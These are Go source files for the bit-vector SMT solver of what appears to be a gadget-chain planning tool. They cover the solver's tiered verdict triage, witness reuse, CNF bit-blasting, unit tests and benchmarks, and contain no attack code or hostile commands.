	x := randomBV(rng, b, vars, depth-1)
	y := randomBV(rng, b, vars, depth-1)
	switch rng.Intn(9) {
	case 0:
		return b.Add(x, y)
	case 1:
		return b.Sub(x, y)
	case 2:
		return b.Mul(x, y)
	case 3:
		return b.And(x, y)
	case 4:
		return b.Or(x, y)
	case 5:
		return b.Xor(x, y)
	case 6:
		return b.Not(x)
	case 7:
		return b.Shl(x, b.Const(uint64(rng.Intn(8)), 8))
	default:
		return b.Lshr(x, b.Const(uint64(rng.Intn(8)), 8))
	}
}

func randomBool(rng *rand.Rand, b *expr.Builder, vars []*expr.Node, depth int) *expr.Node {
	if depth == 0 || rng.Intn(3) == 0 {
		x := randomBV(rng, b, vars, 2)
		y := randomBV(rng, b, vars, 2)
		switch rng.Intn(3) {
		case 0:
			return b.Eq(x, y)
		case 1:
			return b.Ult(x, y)
		default:
			return b.Slt(x, y)
		}
	}
	switch rng.Intn(3) {
	case 0:
		return b.BAnd(randomBool(rng, b, vars, depth-1), randomBool(rng, b, vars, depth-1))
	case 1:
		return b.BOr(randomBool(rng, b, vars, depth-1), randomBool(rng, b, vars, depth-1))
	default:
		return b.BNot(randomBool(rng, b, vars, depth-1))
	}
}

func TestShiftsAgainstEval(t *testing.T) {
	b := expr.NewBuilder()
	x := b.Var("x", 8)
	k := b.Var("k", 8)
	s := Default()
	// For every shift kind, the solver must agree with Eval on a sampled
	// constraint: result == Eval(result) under a pinned env is Sat.
	rng := rand.New(rand.NewSource(3))
	for i := 0; i < 20; i++ {
		xv := uint64(rng.Intn(256))
		kv := uint64(rng.Intn(8))
		for _, mk := range []func(*expr.Node, *expr.Node) *expr.Node{b.Shl, b.Lshr, b.Ashr} {
			term := mk(x, k)
			want, err := expr.Eval(term, expr.Env{"x": xv, "k": kv})
			if err != nil {
				t.Fatal(err)
			}
			f := b.BAnd(
				b.BAnd(b.Eq(x, b.Const(xv, 8)), b.Eq(k, b.Const(kv, 8))),
				b.Eq(term, b.Const(want, 8)),
			)
			if r, _ := s.Check(f); r != Sat {
				t.Fatalf("shift disagreement at x=%#x k=%d: %s", xv, kv, term)
			}
			// And the wrong value must be Unsat.
			g := b.BAnd(
				b.BAnd(b.Eq(x, b.Const(xv, 8)), b.Eq(k, b.Const(kv, 8))),
				b.Eq(term, b.Const(want^1, 8)),
			)
			if r, _ := s.Check(g); r != Unsat {
				t.Fatalf("shift false value accepted at x=%#x k=%d", xv, kv)
			}
		}
	}
}

func TestUnknownOnBudget(t *testing.T) {
	b := expr.NewBuilder()
	x := b.Var("x", 32)
	y := b.Var("y", 32)
	// Factoring constraint; hard for a tiny conflict budget.
	f := b.BAnd(
		b.Eq(b.Mul(x, y), b.Const(0x12345677, 32)),
		b.BAnd(b.Ult(b.Const(1, 32), x), b.Ult(b.Const(1, 32), y)),
	)
	s := New(Options{MaxConflicts: 5})
	r, _ := s.Check(f)
	if r == Sat {
		// Extremely unlikely with 5 conflicts, but a model would be fine if
		// genuine; verify it.
		t.Log("solver got lucky; accepting")
		return
	}
	if r != Unknown && r != Unsat {
		t.Errorf("result = %v", r)
	}
}

func TestValid(t *testing.T) {
	b := expr.NewBuilder()
	x := b.Var("x", 64)
	s := Default()
	if !s.Valid(b, b.Eq(b.Xor(x, x), b.Const(0, 64))) {
		t.Error("x^x == 0 should be valid")
	}
	if s.Valid(b, b.Eq(x, b.Const(0, 64))) {
		t.Error("x == 0 should not be valid")
	}
}

func TestEquivalentBool(t *testing.T) {
	b := expr.NewBuilder()
	x := b.Var("x", 64)
	y := b.Var("y", 64)
	s := Default()
	// De Morgan.
	p := b.BNot(b.BAnd(b.Eq(x, y), b.Ult(x, y)))
	q := b.BOr(b.BNot(b.Eq(x, y)), b.BNot(b.Ult(x, y)))
	if !s.EquivalentBool(b, p, q) {
		t.Error("De Morgan equivalence failed")
	}
	if s.EquivalentBool(b, b.Eq(x, y), b.Ult(x, y)) {
		t.Error("eq equivalent to ult?")
	}
}

func TestStatsAccumulate(t *testing.T) {
	b := expr.NewBuilder()
	x := b.Var("x", 8)
	s := Default()
	s.Check(b.Eq(x, b.Const(1, 8)))
	s.Check(b.Eq(x, b.Const(2, 8)))
	if s.Queries != 2 {
		t.Errorf("queries = %d", s.Queries)
	}
}
