package solver

import (
	"github.com/nofreelunch/gadget-planner/internal/expr"
)

// Verdict-query triage. Subsumption testing issues an SMT query per
// candidate gadget pair, and the overwhelming majority of those queries are
// satisfiable — the pair is *not* equivalent, the implication does *not*
// hold — which a single concrete evaluation can prove. Verdict-only queries
// therefore escalate through tiers, each one or more orders of magnitude
// cheaper than the next:
//
//	T1  concrete screening — evaluate the conjunction under a fixed,
//	    deterministic battery of corner-case and pseudo-random
//	    environments; any satisfying assignment is a Sat certificate.
//	T2  witness reuse — replay models retained from earlier full solves
//	    (witness.go); gadget pairs in a bucket tend to be separated by the
//	    same few counterexamples.
//	T3  the structural verdict cache (cache.go).
//	T4  full bit-blast + CDCL (solver.go, blast.go).
//
// Soundness: T1/T2 only ever produce Sat, and only when a concrete
// assignment satisfies the conjunction — a proof of satisfiability
// regardless of where the assignment came from. Every verdict API branches
// solely on Result == Unsat (Sat and Unknown are deliberately
// indistinguishable: both mean "no proof of unsatisfiability"), and the
// CDCL tier never answers Unsat for a satisfiable query, so a triage
// refutation can never flip a verdict relative to the untriaged path. That
// also makes caching a Sat obtained from a witness sound: at worst it
// replaces an Unknown (conflict-budget exhaustion) with the strictly more
// precise Sat, which all verdict APIs treat identically. The minimized
// gadget pool is byte-identical with triage on or off, at every worker
// count.
//
// Determinism of the counters: EvalRefuted is a pure function of the query
// stream (the T1 battery is fixed). The WitnessRefuted / CacheHits /
// Blasted split can shift with bucket scheduling — witness stores and
// caches are per-solver — but their sum, and every verdict, cannot.

// Size of the T1 battery: len(cornerValues) uniform corner environments,
// triageMixedRounds mixed-corner environments, and triageRandomRounds
// pseudo-random environments.
const (
	triageMixedRounds  = 4
	triageRandomRounds = 8
)

// cornerValue returns the idx-th corner pattern for a variable of width w:
// the classic boundary values (0, 1, 2, all-ones, the sign boundary) plus
// alternating bit patterns. Corner environments bind *every* variable to
// the same pattern, which is what refutes implications between equality
// pre-conditions (e.g. rbx==rdx holds, rax==5 does not, under all-zeros).
const numCorners = 8

func cornerValue(idx int, w uint8) uint64 {
	mask := ^uint64(0)
	if w < 64 {
		mask = 1<<w - 1
	}
	switch idx {
	case 0:
		return 0
	case 1:
		return 1
	case 2:
		return mask // all ones (= -1)
	case 3:
		return 1 << (w - 1) // smallest negative (sign bit)
	case 4:
		return 1<<(w-1) - 1 // largest positive
	case 5:
		return 2
	case 6:
		return 0x5555_5555_5555_5555 & mask
	default:
		return 0xAAAA_AAAA_AAAA_AAAA & mask
	}
}

// triageValue produces a deterministic pseudo-random value from a variable
// name and round (FNV-1a into splitmix64). The seed constant differs from
// the one subsume's fingerprinting uses: gadget pairs reaching the solver
// already agree on the fingerprint environments, so replaying those exact
// values would screen nothing.
func triageValue(name string, round uint64) uint64 {
	h := uint64(14695981039346656037)
	for i := 0; i < len(name); i++ {
		h ^= uint64(name[i])
		h *= 1099511628211
	}
	z := h + (round+1)*0xD1B54A32D192ED03
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9
	z = (z ^ (z >> 27)) * 0x94D049BB133111EB
	return z ^ (z >> 31)
}

// checkVerdict decides the conjunction like Check but without producing a
// model, escalating through the triage tiers. Queries answered by any tier
// still count toward Queries, so the logical query count is independent of
// triage, cache, and witness state.
func (s *Solver) checkVerdict(formulas ...*expr.Node) Result {
	s.Queries++

	// Free tier: simplification may have decided every conjunct already.
	// Answering here skips both the probe battery and the cache-key
	// serialization.
	allConst := true
	for _, f := range formulas {
		v, ok := f.IsBoolConst()
		if ok && !v {
			return Unsat
		}
		if !ok {
			allConst = false
		}
	}
	if allConst {
		return Sat
	}

	// T1 + T2: concrete refutation.
	var fromWitness bool
	if !s.opts.DisableTriage {
		refuted, byWitness := s.triageRefute(formulas)
		if refuted && !byWitness {
			s.EvalRefuted++
			// Not cached: the battery is deterministic and re-refutes a
			// repeat of this query for less than the key serialization
			// would cost.
			return Sat
		}
		if refuted {
			s.WitnessRefuted++
			fromWitness = true
		}
	}

	// T3: structural verdict cache. A witness refutation is cached as Sat
	// (sound — see the package comment above) so the verdict survives
	// witness eviction.
	key := cacheKey(formulas)
	if fromWitness {
		s.cachePut(key, Sat)
		return Sat
	}
	if r, ok := s.cacheGet(key); ok {
		s.CacheHits++
		return r
	}

	// T4: full bit-blast + CDCL.
	r, _ := s.solve(formulas)
	s.cachePut(key, r)
	return r
}

// triageRefute attempts to prove the conjunction satisfiable by concrete
// evaluation: first under the deterministic T1 battery, then by replaying
// stored witnesses (T2). It reports (refuted, refuted-by-witness).
func (s *Solver) triageRefute(formulas []*expr.Node) (bool, bool) {
	vars := s.varc.Collect(formulas...)
	if len(vars) == 0 {
		// No free variables and not constant-foldable (cannot happen with
		// builder-simplified formulas); leave it to the solver.
		return false, false
	}
	if s.probeEnv == nil {
		s.probeEnv = make(expr.Env, len(vars))
	} else {
		clear(s.probeEnv)
	}
	env := s.probeEnv

	// T1a: uniform corner environments.
	for idx := 0; idx < numCorners; idx++ {
		for _, v := range vars {
			env[v.Name] = cornerValue(idx, v.Width)
		}
		if s.probe(formulas, env) {
			return true, false
		}
	}
	// T1b: mixed corners — each variable gets a name-dependent corner, so
	// relations the uniform environments cannot break (x == y but with
	// different corner demands) are probed too.
	for round := 0; round < triageMixedRounds; round++ {
		for _, v := range vars {
			h := triageValue(v.Name, 0)
			env[v.Name] = cornerValue(int((h+uint64(round))%numCorners), v.Width)
		}
		if s.probe(formulas, env) {
			return true, false
		}
	}
	// T1c: pseudo-random environments.
	for round := 0; round < triageRandomRounds; round++ {
		for _, v := range vars {
			env[v.Name] = triageValue(v.Name, uint64(round))
		}
		if s.probe(formulas, env) {
			return true, false
		}
	}

	// T2: witness replay, most recently useful first. Witnesses bind the
	// variables of the query that produced them; unbound variables default
	// to zero, keeping the assignment total and the certificate sound.
	for i := range s.witnesses.envs {
		w := s.witnesses.envs[i]
		for _, v := range vars {
			env[v.Name] = w[v.Name] // missing -> 0
		}
		if s.probe(formulas, env) {
			s.witnesses.touch(i)
			return true, true
		}
	}
	return false, false
}

// probe evaluates the conjunction under one total environment, memoizing
// shared subterms across conjuncts. Evaluation errors (which builder-made
// formulas cannot produce) abstain rather than refute.
func (s *Solver) probe(formulas []*expr.Node, env expr.Env) bool {
	s.eval.Reset()
	for _, f := range formulas {
		v, err := s.eval.EvalBool(f, env)
		if err != nil || !v {
			return false
		}
	}
	return true
}
