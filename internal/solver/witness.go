package solver

import "github.com/nofreelunch/gadget-planner/internal/expr"

// maxWitnesses bounds the per-solver witness store. Subsumption buckets are
// homogeneous — a few dozen counterexample environments refute nearly every
// non-equivalent gadget pair in a bucket — so a small MRU list captures
// almost all of the reuse while keeping replay cost bounded.
const maxWitnesses = 64

// witnessStore retains models produced by full SAT solves so later verdict
// queries can be refuted by replaying a known-interesting assignment instead
// of bit-blasting (triage tier T2). Entries are kept most-recently-useful
// first: a witness that refutes a query moves to the front, and insertion
// past capacity drops the least recently useful entry.
//
// Witnesses are partial environments (they bind the variables of the query
// that produced them); replay fills unbound variables with zero, which keeps
// the replayed assignment concrete and therefore sound as a Sat certificate.
type witnessStore struct {
	envs []expr.Env
}

// add inserts a model at the front of the store, evicting from the tail
// beyond capacity. Empty models carry no information and are dropped.
func (w *witnessStore) add(env expr.Env) {
	if len(env) == 0 {
		return
	}
	if len(w.envs) < maxWitnesses {
		w.envs = append(w.envs, nil)
	}
	copy(w.envs[1:], w.envs)
	w.envs[0] = env
}

// touch marks the witness at index i as useful, moving it to the front.
func (w *witnessStore) touch(i int) {
	if i <= 0 || i >= len(w.envs) {
		return
	}
	env := w.envs[i]
	copy(w.envs[1:i+1], w.envs[:i])
	w.envs[0] = env
}
