package solver

import (
	"github.com/nofreelunch/gadget-planner/internal/expr"
)

// Result is the outcome of a satisfiability check.
type Result int

// Check outcomes.
const (
	Unknown Result = iota
	Sat
	Unsat
)

// String returns the conventional lower-case name.
func (r Result) String() string {
	switch r {
	case Sat:
		return "sat"
	case Unsat:
		return "unsat"
	default:
		return "unknown"
	}
}

// Options tune the solver.
type Options struct {
	// MaxConflicts bounds CDCL search effort per query; exceeded queries
	// return Unknown. Zero selects a generous default.
	MaxConflicts int64
	// DisableTriage turns off the concrete-screening and witness-reuse
	// tiers of verdict queries (T1/T2), forcing every non-cached verdict
	// through the bit-blaster. Verdicts are identical either way (triage
	// only short-circuits refutations the blaster would also find); the
	// switch exists for A/B benchmarking and the determinism tests.
	DisableTriage bool
}

// Solver answers satisfiability, implication, and equivalence queries over
// expr formulas. Verdict-only queries (Sat, Valid, Implies, EquivalentBV,
// EquivalentBool) escalate through a tiered triage pipeline — concrete
// refutation, counterexample-witness reuse, a structural verdict cache —
// before reaching the bit-blaster, so the overwhelmingly common
// non-equivalent gadget pair is refuted for the cost of a few DAG
// evaluations instead of a CNF solve (see triage.go). A Solver is safe to
// reuse across queries; it is not safe for concurrent use (give each worker
// its own Solver).
type Solver struct {
	opts Options

	// Queries and Conflicts accumulate statistics across calls. Queries
	// counts logical queries, including ones served by a triage tier.
	Queries   int64
	Conflicts int64
	// CacheHits counts verdict queries answered from the verdict cache
	// (triage tier T3).
	CacheHits int64
	// EvalRefuted counts verdict queries refuted by the deterministic
	// concrete-evaluation battery (triage tier T1).
	EvalRefuted int64
	// WitnessRefuted counts verdict queries refuted by replaying a model
	// retained from an earlier full solve (triage tier T2).
	WitnessRefuted int64
	// Blasted counts queries that reached the bit-blaster (triage tier T4,
	// plus model-producing Check/Solve calls, which always blast).
	Blasted int64

	// cache and prevCache are the two generations of the verdict cache
	// (see cache.go). witnesses is the bounded store of Sat models kept
	// for counterexample reuse (see witness.go).
	cache     map[string]Result
	prevCache map[string]Result
	witnesses witnessStore

	// Scratch state reused across triage probes (see triage.go).
	varc     expr.VarCollector
	eval     expr.Evaluator
	probeEnv expr.Env
}

// New returns a solver with the given options.
func New(opts Options) *Solver {
	if opts.MaxConflicts == 0 {
		opts.MaxConflicts = 200_000
	}
	return &Solver{opts: opts, cache: make(map[string]Result)}
}

// Default returns a solver with default options.
func Default() *Solver { return New(Options{}) }

// Check decides the conjunction of the given boolean formulas. On Sat it
// returns a model assigning every variable occurring in the formulas.
func (s *Solver) Check(formulas ...*expr.Node) (Result, expr.Env) {
	s.Queries++
	return s.solve(formulas)
}

// solve is Check without the query accounting: the constant fast path
// followed by the full bit-blast + CDCL solve. Sat models are retained in
// the witness store for counterexample reuse by later verdict queries.
func (s *Solver) solve(formulas []*expr.Node) (Result, expr.Env) {
	// Fast path: simplification may have already decided the conjunction.
	allConst := true
	for _, f := range formulas {
		v, ok := f.IsBoolConst()
		if ok && !v {
			return Unsat, nil
		}
		if !ok {
			allConst = false
		}
	}
	if allConst {
		return Sat, expr.Env{}
	}

	s.Blasted++
	sat := newSAT()
	bl := newBlaster(sat)
	for _, f := range formulas {
		l, err := bl.boolLit(f)
		if err != nil {
			return Unknown, nil
		}
		if !sat.addClause([]lit{l}) {
			return Unsat, nil
		}
	}
	before := sat.conflicts
	res := sat.solve(nil, s.opts.MaxConflicts)
	s.Conflicts += sat.conflicts - before
	switch res {
	case resSat:
		env := bl.model(nil)
		s.witnesses.add(env)
		return Sat, env
	case resUnsat:
		return Unsat, nil
	default:
		return Unknown, nil
	}
}

// Sat reports whether the conjunction of formulas is satisfiable, treating
// Unknown as satisfiable (the safe direction for pruning).
func (s *Solver) Sat(formulas ...*expr.Node) bool {
	return s.checkVerdict(formulas...) != Unsat
}

// Valid reports whether f holds in every model (its negation is Unsat).
// Unknown results report false.
func (s *Solver) Valid(b *expr.Builder, f *expr.Node) bool {
	return s.checkVerdict(b.BNot(f)) == Unsat
}

// Implies reports whether p logically entails q: p && !q is Unsat.
// Unknown results report false.
func (s *Solver) Implies(b *expr.Builder, p, q *expr.Node) bool {
	return s.checkVerdict(p, b.BNot(q)) == Unsat
}

// EquivalentBV reports whether two bitvector terms are equal in every model.
func (s *Solver) EquivalentBV(b *expr.Builder, x, y *expr.Node) bool {
	if x == y {
		return true
	}
	if x.Width != y.Width {
		return false
	}
	return s.checkVerdict(b.BNot(b.Eq(x, y))) == Unsat
}

// EquivalentBool reports whether two boolean formulas agree in every model.
func (s *Solver) EquivalentBool(b *expr.Builder, p, q *expr.Node) bool {
	if p == q {
		return true
	}
	return s.checkVerdict(b.BNot(b.Eq(b.Ite(p, b.Const(1, 8), b.Const(0, 8)),
		b.Ite(q, b.Const(1, 8), b.Const(0, 8))))) == Unsat
}

// Solve finds a model of the conjunction restricted to the named variables,
// or nil if Unsat/Unknown.
func (s *Solver) Solve(formulas ...*expr.Node) expr.Env {
	r, env := s.Check(formulas...)
	if r != Sat {
		return nil
	}
	return env
}
