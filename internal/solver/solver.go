package solver

import (
	"github.com/nofreelunch/gadget-planner/internal/expr"
)

// Result is the outcome of a satisfiability check.
type Result int

// Check outcomes.
const (
	Unknown Result = iota
	Sat
	Unsat
)

// String returns the conventional lower-case name.
func (r Result) String() string {
	switch r {
	case Sat:
		return "sat"
	case Unsat:
		return "unsat"
	default:
		return "unknown"
	}
}

// Options tune the solver.
type Options struct {
	// MaxConflicts bounds CDCL search effort per query; exceeded queries
	// return Unknown. Zero selects a generous default.
	MaxConflicts int64
}

// Solver answers satisfiability, implication, and equivalence queries over
// expr formulas. Verdict-only queries (Sat, Valid, Implies, EquivalentBV,
// EquivalentBool) are memoized in a structural-key cache, so repeated checks
// — e.g. the same implication asked for many gadget pairs, or the same
// validity proof across payload concretizations — are answered without
// re-bit-blasting. A Solver is safe to reuse across queries; it is not safe
// for concurrent use (give each worker its own Solver).
type Solver struct {
	opts Options

	// Queries and Conflicts accumulate statistics across calls. Queries
	// counts logical queries, including cache-served ones.
	Queries   int64
	Conflicts int64
	// CacheHits counts verdict queries answered from the cache.
	CacheHits int64

	cache map[string]Result
}

// New returns a solver with the given options.
func New(opts Options) *Solver {
	if opts.MaxConflicts == 0 {
		opts.MaxConflicts = 200_000
	}
	return &Solver{opts: opts, cache: make(map[string]Result)}
}

// Default returns a solver with default options.
func Default() *Solver { return New(Options{}) }

// Check decides the conjunction of the given boolean formulas. On Sat it
// returns a model assigning every variable occurring in the formulas.
func (s *Solver) Check(formulas ...*expr.Node) (Result, expr.Env) {
	s.Queries++

	// Fast path: simplification may have already decided each conjunct.
	allTrue := true
	for _, f := range formulas {
		v, ok := f.IsBoolConst()
		if !ok {
			allTrue = false
			break
		}
		if !v {
			return Unsat, nil
		}
		_ = v
	}
	if allTrue {
		return Sat, expr.Env{}
	}

	sat := newSAT()
	bl := newBlaster(sat)
	for _, f := range formulas {
		l, err := bl.boolLit(f)
		if err != nil {
			return Unknown, nil
		}
		if !sat.addClause([]lit{l}) {
			return Unsat, nil
		}
	}
	before := sat.conflicts
	res := sat.solve(nil, s.opts.MaxConflicts)
	s.Conflicts += sat.conflicts - before
	switch res {
	case resSat:
		return Sat, bl.model(nil)
	case resUnsat:
		return Unsat, nil
	default:
		return Unknown, nil
	}
}

// Sat reports whether the conjunction of formulas is satisfiable, treating
// Unknown as satisfiable (the safe direction for pruning).
func (s *Solver) Sat(formulas ...*expr.Node) bool {
	return s.checkVerdict(formulas...) != Unsat
}

// Valid reports whether f holds in every model (its negation is Unsat).
// Unknown results report false.
func (s *Solver) Valid(b *expr.Builder, f *expr.Node) bool {
	return s.checkVerdict(b.BNot(f)) == Unsat
}

// Implies reports whether p logically entails q: p && !q is Unsat.
// Unknown results report false.
func (s *Solver) Implies(b *expr.Builder, p, q *expr.Node) bool {
	return s.checkVerdict(p, b.BNot(q)) == Unsat
}

// EquivalentBV reports whether two bitvector terms are equal in every model.
func (s *Solver) EquivalentBV(b *expr.Builder, x, y *expr.Node) bool {
	if x == y {
		return true
	}
	if x.Width != y.Width {
		return false
	}
	return s.checkVerdict(b.BNot(b.Eq(x, y))) == Unsat
}

// EquivalentBool reports whether two boolean formulas agree in every model.
func (s *Solver) EquivalentBool(b *expr.Builder, p, q *expr.Node) bool {
	if p == q {
		return true
	}
	return s.checkVerdict(b.BNot(b.Eq(b.Ite(p, b.Const(1, 8), b.Const(0, 8)),
		b.Ite(q, b.Const(1, 8), b.Const(0, 8))))) == Unsat
}

// Solve finds a model of the conjunction restricted to the named variables,
// or nil if Unsat/Unknown.
func (s *Solver) Solve(formulas ...*expr.Node) expr.Env {
	r, env := s.Check(formulas...)
	if r != Sat {
		return nil
	}
	return env
}
