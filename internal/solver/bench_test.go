package solver

import (
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/expr"
)

// BenchmarkLinearQuery measures the chain-link/goal-constraint query shape
// (linear 64-bit equations), the dominant query class during payload
// concretization.
func BenchmarkLinearQuery(b *testing.B) {
	eb := expr.NewBuilder()
	x := eb.Var("x", 64)
	y := eb.Var("y", 64)
	f := eb.BAnd(
		eb.Eq(eb.Add(x, eb.Const(0x1234, 64)), eb.Const(0x401000, 64)),
		eb.Eq(eb.Xor(y, eb.Const(0xFF, 64)), eb.Const(59, 64)),
	)
	s := Default()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if r, _ := s.Check(f); r != Sat {
			b.Fatal(r)
		}
	}
}

// BenchmarkEquivalence64 measures the subsumption-style equality proof on a
// nonlinear 64-bit identity (the expensive query class).
func BenchmarkEquivalence64(b *testing.B) {
	eb := expr.NewBuilder()
	x := eb.Var("x", 64)
	y := eb.Var("y", 64)
	lhs := eb.Add(x, y)
	rhs := eb.Add(eb.Xor(x, y), eb.Shl(eb.And(x, y), eb.Const(1, 64)))
	s := Default()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if !s.EquivalentBV(eb, lhs, rhs) {
			b.Fatal("identity failed")
		}
	}
}

// BenchmarkImplication measures the subsumption pre-condition check.
func BenchmarkImplication(b *testing.B) {
	eb := expr.NewBuilder()
	x := eb.Var("rdx0", 64)
	y := eb.Var("rbx0", 64)
	p := eb.Eq(x, y)
	q := eb.BNot(eb.Ult(eb.Sub(x, y), eb.Const(1, 64)))
	s := Default()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s.Implies(eb, p, q)
	}
}
