package solver

import (
	"fmt"

	"github.com/nofreelunch/gadget-planner/internal/expr"
)

// blaster lowers expr nodes to CNF over a satSolver. Two memoization layers
// keep the emitted CNF small: per-node literal vectors (bv/bl, shared across
// all conjuncts of one query, since hash-consed nodes recur), and gate-level
// hash-consing (gates) — structurally identical and/xor/mux gates emit their
// Tseitin clauses once and share the output literal, even when they arise
// from *different* expr nodes (e.g. the adder both ultBits and sltBits
// build over the same operands, or the x^y term a full adder needs twice).
type blaster struct {
	sat     *satSolver
	bv      map[uint32][]lit // bitvector node -> bits, LSB first
	bl      map[uint32]lit   // boolean node -> literal
	gates   map[gateKey]lit  // canonicalized gate -> output literal
	trueLit lit
	vars    map[string][]lit // bitvector variable name -> bits
}

// gateKey identifies a gate up to canonicalization: commutative inputs are
// ordered, xor inputs are polarity-normalized, and mux selectors are made
// positive. c is zero for two-input gates (literal 0 is never allocated:
// variable numbering starts at 1).
type gateKey struct {
	op      uint8
	a, b, c lit
}

// Gate ops for gateKey.
const (
	gateAnd uint8 = iota
	gateXor
	gateMux
)

func newBlaster(sat *satSolver) *blaster {
	b := &blaster{
		sat:   sat,
		bv:    make(map[uint32][]lit),
		bl:    make(map[uint32]lit),
		gates: make(map[gateKey]lit),
		vars:  make(map[string][]lit),
	}
	v := sat.newVar()
	b.trueLit = mkLit(v, false)
	sat.addClause([]lit{b.trueLit})
	return b
}

func (b *blaster) falseLit() lit { return b.trueLit.not() }

func (b *blaster) constLit(v bool) lit {
	if v {
		return b.trueLit
	}
	return b.falseLit()
}

func (b *blaster) fresh() lit { return mkLit(b.sat.newVar(), false) }

// Gate encodings (Tseitin).

func (b *blaster) andGate(x, y lit) lit {
	if x == b.trueLit {
		return y
	}
	if y == b.trueLit {
		return x
	}
	if x == b.falseLit() || y == b.falseLit() {
		return b.falseLit()
	}
	if x == y {
		return x
	}
	if x == y.not() {
		return b.falseLit()
	}
	if x > y {
		x, y = y, x
	}
	key := gateKey{op: gateAnd, a: x, b: y}
	if o, ok := b.gates[key]; ok {
		return o
	}
	o := b.fresh()
	b.sat.addClause([]lit{x.not(), y.not(), o})
	b.sat.addClause([]lit{x, o.not()})
	b.sat.addClause([]lit{y, o.not()})
	b.gates[key] = o
	return o
}

func (b *blaster) orGate(x, y lit) lit {
	return b.andGate(x.not(), y.not()).not()
}

func (b *blaster) xorGate(x, y lit) lit {
	if x == b.falseLit() {
		return y
	}
	if y == b.falseLit() {
		return x
	}
	if x == b.trueLit {
		return y.not()
	}
	if y == b.trueLit {
		return x.not()
	}
	if x == y {
		return b.falseLit()
	}
	if x == y.not() {
		return b.trueLit
	}
	// xor(!x, y) = !xor(x, y): normalize both inputs to positive polarity
	// and fold the parity into the output, so all four polarity variants
	// share one gate.
	neg := x.negated() != y.negated()
	x, y = x&^1, y&^1
	if x > y {
		x, y = y, x
	}
	key := gateKey{op: gateXor, a: x, b: y}
	o, ok := b.gates[key]
	if !ok {
		o = b.fresh()
		b.sat.addClause([]lit{x.not(), y.not(), o.not()})
		b.sat.addClause([]lit{x, y, o.not()})
		b.sat.addClause([]lit{x.not(), y, o})
		b.sat.addClause([]lit{x, y.not(), o})
		b.gates[key] = o
	}
	if neg {
		return o.not()
	}
	return o
}

// muxGate returns s ? x : y.
func (b *blaster) muxGate(s, x, y lit) lit {
	if s == b.trueLit {
		return x
	}
	if s == b.falseLit() {
		return y
	}
	if x == y {
		return x
	}
	// mux(!s, x, y) = mux(s, y, x): normalize the selector to positive
	// polarity so both selector phases share one gate.
	if s.negated() {
		s, x, y = s.not(), y, x
	}
	key := gateKey{op: gateMux, a: s, b: x, c: y}
	if o, ok := b.gates[key]; ok {
		return o
	}
	o := b.fresh()
	b.sat.addClause([]lit{s.not(), x.not(), o})
	b.sat.addClause([]lit{s.not(), x, o.not()})
	b.sat.addClause([]lit{s, y.not(), o})
	b.sat.addClause([]lit{s, y, o.not()})
	b.gates[key] = o
	return o
}

// fullAdder returns (sum, carryOut).
func (b *blaster) fullAdder(x, y, cin lit) (lit, lit) {
	s := b.xorGate(b.xorGate(x, y), cin)
	c := b.orGate(b.andGate(x, y), b.andGate(cin, b.xorGate(x, y)))
	return s, c
}

// addBits returns x + y + cin (dropping the final carry) and the carry-out.
func (b *blaster) addBits(x, y []lit, cin lit) ([]lit, lit) {
	out := make([]lit, len(x))
	c := cin
	for i := range x {
		out[i], c = b.fullAdder(x[i], y[i], c)
	}
	return out, c
}

func (b *blaster) notBits(x []lit) []lit {
	out := make([]lit, len(x))
	for i, l := range x {
		out[i] = l.not()
	}
	return out
}

func (b *blaster) constBits(v uint64, w uint8) []lit {
	out := make([]lit, w)
	for i := uint8(0); i < w; i++ {
		out[i] = b.constLit(v>>i&1 == 1)
	}
	return out
}

// shiftBits builds a barrel shifter. kind: 0 shl, 1 lshr, 2 ashr. The shift
// amount is y mod width (matching expr semantics).
func (b *blaster) shiftBits(x, y []lit, kind int) []lit {
	w := len(x)
	stages := 0
	for 1<<stages < w {
		stages++
	}
	cur := x
	for s := 0; s < stages; s++ {
		amt := 1 << s
		next := make([]lit, w)
		for i := 0; i < w; i++ {
			var shifted lit
			switch kind {
			case 0: // shl
				if i >= amt {
					shifted = cur[i-amt]
				} else {
					shifted = b.falseLit()
				}
			case 1: // lshr
				if i+amt < w {
					shifted = cur[i+amt]
				} else {
					shifted = b.falseLit()
				}
			default: // ashr
				if i+amt < w {
					shifted = cur[i+amt]
				} else {
					shifted = cur[w-1]
				}
			}
			next[i] = b.muxGate(y[s], shifted, cur[i])
		}
		cur = next
	}
	return cur
}

// mulBits builds a shift-add multiplier.
func (b *blaster) mulBits(x, y []lit) []lit {
	w := len(x)
	acc := b.constBits(0, uint8(w))
	for i := 0; i < w; i++ {
		// partial = (x << i) AND y[i].
		partial := make([]lit, w)
		for j := 0; j < w; j++ {
			if j < i {
				partial[j] = b.falseLit()
			} else {
				partial[j] = b.andGate(x[j-i], y[i])
			}
		}
		acc, _ = b.addBits(acc, partial, b.falseLit())
	}
	return acc
}

// eqBits returns a literal asserting x == y.
func (b *blaster) eqBits(x, y []lit) lit {
	out := b.trueLit
	for i := range x {
		out = b.andGate(out, b.xorGate(x[i], y[i]).not())
	}
	return out
}

// ultBits returns the literal for unsigned x < y.
func (b *blaster) ultBits(x, y []lit) lit {
	// x < y  iff  no carry out of x + ~y + 1.
	_, carry := b.addBits(x, b.notBits(y), b.trueLit)
	return carry.not()
}

func (b *blaster) sltBits(x, y []lit) lit {
	w := len(x)
	sx, sy := x[w-1], y[w-1]
	diffSign := b.xorGate(sx, sy)
	// Different signs: x < y iff x negative. Same signs: unsigned compare.
	return b.muxGate(diffSign, sx, b.ultBits(x, y))
}

// bits lowers a bitvector node.
func (b *blaster) bits(n *expr.Node) ([]lit, error) {
	if got, ok := b.bv[n.ID()]; ok {
		return got, nil
	}
	out, err := b.bitsUncached(n)
	if err != nil {
		return nil, err
	}
	b.bv[n.ID()] = out
	return out, nil
}

func (b *blaster) bitsUncached(n *expr.Node) ([]lit, error) {
	switch n.Kind {
	case expr.KindConst:
		return b.constBits(n.Val, n.Width), nil
	case expr.KindVar:
		if got, ok := b.vars[n.Name]; ok {
			return got, nil
		}
		out := make([]lit, n.Width)
		for i := range out {
			out[i] = b.fresh()
		}
		b.vars[n.Name] = out
		return out, nil
	}

	switch n.Kind {
	case expr.KindNot, expr.KindNeg, expr.KindZext, expr.KindSext, expr.KindTrunc:
		x, err := b.bits(n.Args[0])
		if err != nil {
			return nil, err
		}
